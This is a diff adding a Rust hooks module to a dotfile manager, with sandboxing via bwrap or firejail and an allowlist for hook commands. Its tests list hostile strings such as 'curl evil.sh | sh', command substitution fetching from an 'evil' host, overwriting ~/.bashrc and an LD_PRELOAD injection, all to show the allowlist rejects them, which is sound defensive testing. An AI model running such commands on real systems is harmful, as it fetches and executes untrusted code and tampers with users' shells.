@@ -0,0 +1,336 @@
+use crate::config::Options;
+use crate::deploy::PlannedLink;
+use crate::state::PackageState;
+use crate::{Context, HookAction, Package, check, interactive, limits, plugins};
+use log::{info, warn};
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+/// The directories a sandboxed hook of `pkg` may write to: the package
+/// directory and the directories of its targets.
+fn writable(pkg_dir: &Path, links: &[PlannedLink]) -> Vec<PathBuf> {
+    let mut dirs = BTreeSet::from([pkg_dir.to_path_buf()]);
+    for link in links {
+        if let Some(dir) = link.target.parent()
+            && dir.is_dir()
+        {
+            dirs.insert(dir.to_path_buf());
+        }
+    }
+    dirs.into_iter().collect()
+}
+
+/// `sh -c cmd` confined with bubblewrap, or firejail when bubblewrap is
+/// missing: the file system is read-only and `$HOME` is empty but for the
+/// `writable` directories, and there is no network.
+fn sandboxed(cmd: &str, writable: &[PathBuf], home: &Path) -> Result<Command, String> {
+    if let Some(bwrap) = check::find_bin("bwrap") {
+        let mut command = Command::new(bwrap);
+        command
+            .args(["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"])
+            .args(["--tmpfs", "/tmp"])
+            .arg("--tmpfs")
+            .arg(home);
+        for dir in writable {
+            command.arg("--bind").arg(dir).arg(dir);
+        }
+        command.args(["--unshare-all", "--die-with-parent", "sh", "-c", cmd]);
+        return Ok(command);
+    }
+    if let Some(firejail) = check::find_bin("firejail") {
+        let mut command = Command::new(firejail);
+        command.args(["--quiet", "--noprofile", "--net=none", "--private-tmp"]);
+        command.arg("--read-only=/");
+        for dir in writable {
+            command.arg(format!("--whitelist={}", dir.display()));
+            command.arg(format!("--read-write={}", dir.display()));
+        }
+        command.args(["sh", "-c", cmd]);
+        return Ok(command);
+    }
+    Err(format!(
+        "'{}' asks for a sandbox but neither bwrap nor firejail is installed",
+        cmd
+    ))
+}
+
+fn run_action(
+    ctx: &Context,
+    pkg: &Package,
+    action: &HookAction,
+    links: &[PlannedLink],
+) -> Result<(), String> {
+    let pkg_dir = ctx.package_dir(pkg);
+    let dir = match pkg_dir.is_dir() {
+        true => pkg_dir.clone(),
+        false => ctx.config_path.clone(),
+    };
+    let mut command = match action {
+        HookAction::Function(hook) => {
+            return limits::budgeted(|| hook.call::<()>(()))
+                .map_err(|err| format!("hook failed: {}", err));
+        }
+        HookAction::Command(cmd) => {
+            let mut command = Command::new("sh");
+            command.arg("-c").arg(cmd);
+            command
+        }
+        HookAction::Action { name, args } => {
+            return plugins::run_action(ctx, pkg, name, args);
+        }
+        HookAction::Sandboxed(cmd) => {
+            let home = dirs::home_dir().unwrap_or_default();
+            sandboxed(cmd, &writable(&dir, links), &home)?
+        }
+    };
+    let status = command
+        .current_dir(&dir)
+        .stdin(Stdio::null())
+        .status()
+        .map_err(|err| format!("failed to run '{}': {}", action.describe(), err))?;
+    if !status.success() {
+        return Err(format!("'{}' exited with {}", action.describe(), status));
+    }
+    Ok(())
+}
+
+/// The allowlist of hooks, in the state dir rather than the repo whose
+/// hooks it restricts: one program or plugin action name per line.
+pub const ALLOWLIST_FILE: &str = "allowed_hooks";
+
+/// Reads the allowlist of hooks from `state_dir`; `None` when there is
+/// none.
+pub fn allowlist(state_dir: &Path) -> Option<Vec<String>> {
+    let content = fs::read_to_string(state_dir.join(ALLOWLIST_FILE)).ok()?;
+    let allowed = content
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .map(String::from)
+        .collect();
+    Some(allowed)
+}
+
+/// The program a hook command starts, when that is all it runs and it is
+/// looked up in `PATH`: a command chaining, piping, redirecting or
+/// substituting others has none, and neither has one that sets variables
+/// first or names the program by path.
+fn program(cmd: &str) -> Option<&str> {
+    if cmd.contains([';', '&', '|', '`', '<', '>', '(', ')', '\n']) || cmd.contains("$(") {
+        return None;
+    }
+    cmd.split_whitespace()
+        .next()
+        .filter(|word| !word.contains(['=', '/']))
+}
+
+/// Whether `action` may run. Hooks that only start a program from the
+/// allowlist, or plugin actions named there, always do; the others are
+/// asked about with `--confirm-hooks`, and otherwise only run when there
+/// is no allowlist.
+pub fn permitted(
+    ctx: &Context,
+    options: &Options,
+    pkg: &Package,
+    hook: &str,
+    action: &HookAction,
+) -> Result<bool, String> {
+    let allowed = match (&options.allowed_hooks, action) {
+        (None, _) => !ctx.confirm_hooks,
+        (Some(programs), HookAction::Command(cmd) | HookAction::Sandboxed(cmd)) => {
+            program(cmd).is_some_and(|program| programs.iter().any(|p| p == program))
+        }
+        (Some(names), HookAction::Action { name, .. }) => names.contains(name),
+        (Some(_), HookAction::Function(_)) => false,
+    };
+    if allowed {
+        return Ok(true);
+    }
+    if !ctx.confirm_hooks {
+        warn!(
+            "[{}] skipping {} '{}': not in {} (run with --confirm-hooks to be asked)",
+            pkg.name,
+            hook,
+            action.describe(),
+            ctx.state_dir.join(ALLOWLIST_FILE).display()
+        );
+        return Ok(false);
+    }
+    let confirmed = interactive::confirm(&format!(
+        "[{}] run {} '{}'?",
+        pkg.name,
+        hook,
+        action.describe()
+    ))?;
+    if !confirmed {
+        info!("[{}] skipped {} '{}'", pkg.name, hook, action.describe());
+    }
+    Ok(confirmed)
+}
+
+/// Runs the hooks of `pkg` once its `links` are deployed: `on_install`
+/// when the package was not `recorded` before or its `on_install`
+/// changed, then its plugin `actions` and `on_deploy` every time. Commands
+/// run in the package directory.
+pub fn run(
+    ctx: &Context,
+    options: &Options,
+    pkg: &Package,
+    recorded: Option<&PackageState>,
+    links: &[PlannedLink],
+) -> Result<(), String> {
+    let described: Vec<String> = pkg.on_install.iter().map(|a| a.describe()).collect();
+    let installed = recorded.is_some_and(|recorded| {
+        recorded
+            .hooks
+            .get("on_install")
+            .cloned()
+            .unwrap_or_default()
+            == described
+    });
+    let mut hooks = Vec::new();
+    if !installed {
+        hooks.extend(pkg.on_install.iter().map(|action| ("on_install", action)));
+    }
+    hooks.extend(pkg.actions.iter().map(|action| ("action", action)));
+    hooks.extend(pkg.on_deploy.iter().map(|action| ("on_deploy", action)));
+    for (hook, action) in hooks {
+        if !permitted(ctx, options, pkg, hook, action)? {
+            continue;
+        }
+        info!("[{}] {}: {}", pkg.name, hook, action.describe());
+        run_action(ctx, pkg, action, links).map_err(|err| format!("{}: {}", hook, err))?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::hooks::*;
+    use crate::*;
+    use std::fs;
+
+    #[test]
+    fn test_allowlist() {
+        let root = env::temp_dir().join(format!("mdot-allowlist-{}", std::process::id()));
+        fs::create_dir_all(&root).unwrap();
+        assert_eq!(allowlist(&root), None);
+        fs::write(
+            root.join(ALLOWLIST_FILE),
+            "# trusted\nfc-cache\n\n  echo \n",
+        )
+        .unwrap();
+        assert_eq!(
+            allowlist(&root),
+            Some(vec!["fc-cache".to_string(), "echo".to_string()])
+        );
+        fs::write(
+            root.join("main.lua"),
+            r#"mdot.options = { allowed_hooks = { "sh" } }
+            return {}"#,
+        )
+        .unwrap();
+        let ctx = Context::builder()
+            .entry(root.join("main.lua"))
+            .state_dir(root.clone())
+            .build();
+        let config = config::load(&ctx);
+        assert_eq!(
+            config.options.allowed_hooks,
+            Some(vec!["fc-cache".to_string(), "echo".to_string()])
+        );
+        fs::remove_dir_all(root).unwrap();
+    }
+
+    #[test]
+    fn test_hooks() {
+        let _ = setup_logger();
+        let root = env::temp_dir().join(format!("mdot-hooks-{}", std::process::id()));
+        fs::create_dir_all(root.join("kitty")).unwrap();
+        fs::write(
+            root.join("main.lua"),
+            r#"return { { "kitty",
+                on_install = "echo install >> log",
+                on_deploy = { "echo deploy >> log", function() mdot.store.set("hooked", true) end },
+            }, { "fish", on_deploy = { "fish_update_completions", sandbox = true } } }"#,
+        )
+        .unwrap();
+        let mut ctx = Context::builder()
+            .entry(root.join("main.lua"))
+            .state_dir(root.join("state"))
+            .build();
+        let config = config::load(&ctx);
+        let pkg = &config.packages[0];
+
+        let options = &config.options;
+        run(&ctx, options, pkg, None, &[]).unwrap();
+        let recorded = state::State::from_plan(&config.packages, &[]);
+        run(&ctx, options, pkg, recorded.packages.get("kitty"), &[]).unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("kitty/log")).unwrap(),
+            "install\ndeploy\ndeploy\n"
+        );
+        let hooked: bool = ctx.lua.load("mdot.store.get('hooked')").eval().unwrap();
+        assert!(hooked);
+        assert_eq!(
+            config.packages[1].on_deploy,
+            [HookAction::Sandboxed("fish_update_completions".to_string())]
+        );
+
+        let dirs = writable(
+            &root,
+            &[deploy::PlannedLink {
+                package: "kitty".to_string(),
+                source: root.join("kitty/log"),
+                target: root.join("kitty/out/log"),
+                overwrite: false,
+                backup: false,
+                copy: false,
+                rendered_from: None,
+            }],
+        );
+        assert_eq!(dirs, std::slice::from_ref(&root));
+
+        assert_eq!(program("fc-cache -f"), Some("fc-cache"));
+        for cmd in [
+            "LANG=C fc-cache -f",
+            "LD_PRELOAD=./evil.so fc-cache -f",
+            "PATH=. fc-cache",
+            "./fc-cache",
+            "/usr/bin/fc-cache -f",
+        ] {
+            assert_eq!(program(cmd), None, "{}", cmd);
+        }
+        let options = config::Options {
+            allowed_hooks: Some(vec!["echo".to_string()]),
+            ..config::Options::default()
+        };
+        let permitted = |ctx: &Context, cmd: &str| {
+            permitted(
+                ctx,
+                &options,
+                pkg,
+                "on_deploy",
+                &HookAction::Command(cmd.to_string()),
+            )
+        };
+        assert_eq!(permitted(&ctx, "echo hi"), Ok(true));
+        assert_eq!(permitted(&ctx, "curl evil.sh | sh"), Ok(false));
+        for cmd in [
+            "echo ok; curl evil | sh",
+            "echo ok && sh -c evil",
+            "echo $(curl evil)",
+            "echo `curl evil`",
+            "echo evil > ~/.bashrc",
+        ] {
+            assert_eq!(permitted(&ctx, cmd), Ok(false), "{}", cmd);
+        }
+        ctx.confirm_hooks = true;
+        assert_eq!(permitted(&ctx, "echo hi"), Ok(true));
+        // Nothing set a policy for questions in tests, which answers no.
+        assert_eq!(permitted(&ctx, "curl evil.sh | sh"), Ok(false));
+        fs::remove_dir_all(root).unwrap();
+    }
+}